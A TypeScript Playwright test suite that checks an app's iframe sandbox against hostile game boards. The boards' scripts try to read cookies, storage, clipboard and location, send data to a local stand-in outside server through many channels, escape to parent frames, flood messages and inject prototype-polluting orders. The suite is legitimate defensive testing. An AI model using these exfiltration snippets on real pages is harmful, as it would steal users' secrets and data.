// Boards that try to get at the player's key, at the app, at other sites, or to flood the app. What they see of the game
// stays in the frame: a second server keeps every request that a board causes.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type BoardSite, openBoardSite } from '../support/browser/board-site.ts';
import { desktop, launchChromium } from '../support/browser/chromium.ts';
import { faultsOf, openBoardIn, ordersOf, show } from '../support/browser/frame-page.ts';

const page = (script: string) => `<!doctype html><title>Hostile</title><script src="${script}"></script>`;

/** Each attempt leaves what became of it in `outcomes`. */
const attempts = `
const outcomes = {};
globalThis.outcomes = outcomes;
const outside = new URLSearchParams(location.search).get('outside');
const attempt = async (name, act) => {
  try {
    const result = await Promise.race([act(), new Promise((resolve) => setTimeout(resolve, 1500, 'nothing'))]);
    outcomes[name] = 'did: ' + result;
  } catch (error) {
    outcomes[name] = error.name;
  }
};
const load = (element, attributes) => new Promise((resolve, reject) => {
  Object.assign(element, attributes, { onload: () => resolve('loaded'), onerror: () => reject(new Error()) });
  document.head.append(element);
});
const inFrame = () => { if (parent === self) throw new Error('not in a frame'); return true; };
const make = (name) => document.createElement(name);
globalThis.finished = Promise.all([
  attempt('origin', async () => { if (self.origin !== 'null') return self.origin; throw new Error(); }),
  attempt('localStorage', async () => localStorage.length),
  attempt('sessionStorage', async () => sessionStorage.length),
  attempt('cookie', async () => document.cookie),
  attempt('indexedDB', () => new Promise((resolve, reject) => {
    const request = indexedDB.open('galaxy');
    request.onsuccess = () => resolve('opened');
    request.onerror = () => reject(request.error);
  })),
  attempt('caches', async () => caches.open('x')),
  attempt('fetch outside', async () => (await fetch(outside + '/fetch', { mode: 'no-cors' })).type),
  attempt('fetch app', async () => (await fetch('/index.html')).status),
  attempt('XMLHttpRequest', () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(request.status);
    request.onerror = () => reject(new Error());
    request.open('GET', outside + '/xhr');
    request.send();
  })),
  attempt('WebSocket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket(outside.replace('http', 'ws') + '/socket');
    socket.onopen = () => resolve('open');
    socket.onerror = () => reject(new Error());
  })),
  attempt('EventSource', () => new Promise((resolve, reject) => {
    const source = new EventSource(outside + '/events');
    source.onopen = () => resolve('open');
    source.onerror = () => reject(new Error());
  })),
  attempt('image', () => load(make('img'), { src: outside + '/image.png' })),
  attempt('script', () => load(make('script'), { src: outside + '/script.js' })),
  attempt('script of the app', () => load(make('script'), { src: '/assets/host.js' })),
  attempt('script of another board', () => load(make('script'), { src: '/boards/four-in-a-row/1.0.0/x.js' })),
  attempt('import', () => import(outside + '/module.js')),
  attempt('eval', async () => (0, eval)('1')),
  attempt('worker', () => new Promise((resolve, reject) => {
    const worker = new Worker('data:text/javascript,postMessage(1)');
    worker.onmessage = () => resolve('runs');
    worker.onerror = () => reject(new Error());
  })),
  attempt('style', () => load(make('link'), { rel: 'stylesheet', href: outside + '/style.css' })),
  attempt('prefetch', () => load(make('link'), { rel: 'prefetch', href: outside + '/prefetch' })),
  attempt('preload', () => load(make('link'), { rel: 'preload', as: 'image', href: outside + '/preload' })),
  attempt('preconnect', () => load(make('link'), { rel: 'preconnect', href: outside })),
  attempt('frame', () => load(make('iframe'), { src: outside + '/frame' }).then(() => 'nothing')),
  attempt('font', () => new FontFace('x', 'url(' + outside + '/font)').load()),
  attempt('audio', () => new Promise((resolve, reject) => {
    const audio = new Audio(outside + '/audio');
    audio.onerror = () => reject(new Error());
    audio.onloadeddata = () => resolve('loaded');
  })),
  attempt('pop-up', async () => { if (open(outside + '/popup') === null) throw new Error(); return 'opened'; }),
  attempt('form', async () => {
    const form = make('form');
    Object.assign(form, { action: outside + '/form', target: '_blank' });
    document.body.append(form);
    form.submit();
    return 'nothing';
  }),
  attempt('beacon', async () => navigator.sendBeacon(outside + '/beacon') && 'nothing'),
  attempt('parent', async () => inFrame() && parent.document.title),
  attempt('storage of the parent', async () => inFrame() && parent.localStorage.length),
  attempt('other frame', async () => inFrame() && parent.frames[1].document.title),
  attempt('top', async () => { if (inFrame()) top.location = outside + '/top'; return 'moved'; }),
  attempt('clipboard', () => navigator.clipboard.readText()),
  attempt('location', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, (error) => reject(new Error(error.message))))),
]);
`;

/** Waits for its port, then does something with it. */
const withPort = (act: string) => `
addEventListener('message', ({ ports: [port] }) => { const send = (message) => port.postMessage(message); ${act} });
`;

const orders = { type: 'orders', turn: 1, orders: { column: 4 }, ready: true };

const boards: Record<string, string> = {
  attempts: attempts,
  leaves: withPort(
    `port.onmessage = ({ data }) => { location = '/boards/hostile/listens/?' + encodeURIComponent(data); };`,
  ),
  'leaves-site': withPort(
    `port.onmessage = ({ data }) => { location = new URLSearchParams(location.search).get('outside') + '/?' + encodeURIComponent(data); };`,
  ),
  listens: `addEventListener('message', () => { document.title = 'got a port'; });`,
  floods: withPort(`for (let i = 0; i < 100000; i++) send('{"type":"height","pixels":' + i + '}');`),
  large: withPort(
    `send(JSON.stringify(${JSON.stringify({ ...orders, orders: { column: 4, note: '' } })}).replace('""', '"' + 'a'.repeat(65 * 1024) + '"'));`,
  ),
  wide: withPort(`send(JSON.stringify({ type: 'x'.repeat(10), note: '\\u20ac'.repeat(22 * 1024) }));`),
  object: withPort(`send(${JSON.stringify(orders)});`),
  'no-json': withPort(`send('{"type":"orders"');`),
  unknown: withPort(`send('{"type":"withdraw_everything"}');`),
  'no-turn': withPort(`send('${JSON.stringify({ ...orders, turn: 'x' })}');`),
  'wrong-orders': withPort(`
    port.onmessage = ({ data }) => { document.title = data; };
    send('${JSON.stringify({ ...orders, orders: { column: 9, admin: true } })}');
    send('${JSON.stringify({ ...orders, orders: JSON.parse('{"column":4,"__proto__":{"x":1}}') })}');`),
};

const schema = {
  type: 'object',
  properties: { column: { type: 'integer', minimum: 1, maximum: 7 } },
  required: ['column'],
  additionalProperties: false,
};

let site: BoardSite;
let browser: Browser;
let outside: Server;
let outsideUrl: string;
const requests: (string | undefined)[] = [];

beforeAll(async () => {
  outside = createServer((request, response) => {
    requests.push(request.url);
    response.end('outside');
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  outsideUrl = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  const files = Object.entries(boards).flatMap(([name, script]) => [
    [`hostile/${name}/index.html`, page('board.js')],
    [`hostile/${name}/board.js`, script],
  ]);
  [site, browser] = await Promise.all([openBoardSite(Object.fromEntries(files)), launchChromium()]);
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
  outside?.closeAllConnections();
  outside?.close();
});

beforeEach(() => {
  requests.length = 0;
});

async function openApp(): Promise<Page> {
  const context = await browser.newContext({ viewport: desktop });
  const opened = await context.newPage();
  await opened.goto(site.url);
  await opened.evaluate(() => {
    localStorage.setItem('key', 'secret');
    // biome-ignore lint/suspicious/noDocumentCookie: boards must not read it
    document.cookie = 'session=secret';
  });
  return opened;
}

async function outcomesIn(frame: { evaluate: Page['evaluate'] }): Promise<Record<string, string>> {
  return frame.evaluate(async () => {
    const board = globalThis as unknown as { finished: Promise<void>; outcomes: Record<string, string> };
    await board.finished;
    return board.outcomes;
  });
}

/** Nothing that was tried did anything. */
function expectNothingDone(outcomes: Record<string, string>): void {
  expect(Object.keys(outcomes).length).toBeGreaterThan(30);
  const done = Object.entries(outcomes).filter(
    ([, outcome]) => outcome.startsWith('did: ') && outcome !== 'did: nothing',
  );
  expect(done).toEqual([]);
}

describe('a hostile board', () => {
  it('reaches no network, no storage and no other document, in its frame and opened directly', async () => {
    const app = await openApp();
    const address = `/boards/hostile/attempts/?outside=${encodeURIComponent(outsideUrl)}`;
    const frame = await openBoardIn(app, address, schema);
    expectNothingDone(await outcomesIn(frame));
    expect(app.context().pages()).toHaveLength(1);
    expect(new URL(app.url()).origin).toBe(site.url);

    const direct = await app.context().newPage();
    await direct.goto(`${site.url}/boards/hostile/attempts/?outside=${encodeURIComponent(outsideUrl)}`);
    expectNothingDone(await outcomesIn(direct));
    expect(requests).toEqual([]);
    await app.context().close();
  });

  it('loses its frame when it leaves its page or sends what it may not, and gives no orders against the schema', async () => {
    const app = await openApp();
    await openBoardIn(app, '/boards/hostile/leaves/', schema);
    await show(app, state);
    await expect.poll(() => faultsOf(app)).toEqual(['left_its_page']);
    expect(await app.locator('iframe').count()).toBe(0);

    await openBoardIn(app, `/boards/hostile/leaves-site/?outside=${encodeURIComponent(outsideUrl)}`, schema);
    await show(app, state);
    await expect.poll(() => faultsOf(app)).toEqual(['left_its_page', 'left_its_page']);
    expect(requests).toEqual([]);

    const faults = {
      floods: 'too_many_messages',
      large: 'message_too_large',
      wide: 'message_too_large',
      object: 'malformed_message',
      'no-json': 'malformed_message',
      unknown: 'malformed_message',
      'no-turn': 'malformed_message',
    };
    for (const [name, fault] of Object.entries(faults)) {
      await app.evaluate(
        ([to, schema]) => {
          boardHost.faults = [];
          boardHost.open(to, schema);
        },
        [`/boards/hostile/${name}/`, schema] as const,
      );
      await expect.poll(async () => [name, ...(await faultsOf(app))]).toEqual([name, fault]);
      expect(await app.locator('iframe').count()).toBe(0);
    }
    expect(await ordersOf(app)).toEqual([]);

    await app.evaluate(() => {
      boardHost.faults = [];
    });
    const frame = await openBoardIn(app, '/boards/hostile/wrong-orders/', schema);
    await expect.poll(() => frame.title()).toContain('orders_refused');
    expect(await ordersOf(app)).toEqual([]);
    expect(await faultsOf(app)).toEqual([]);
    await app.context().close();
  });
});

const state = {
  type: 'state',
  locale: 'en',
  theme: 'light',
  seats: [],
  your_seat: 1,
  view: { secret: 'fleet' },
  view_turn: 0,
  open_turn: null,
  your_orders: null,
} as const;
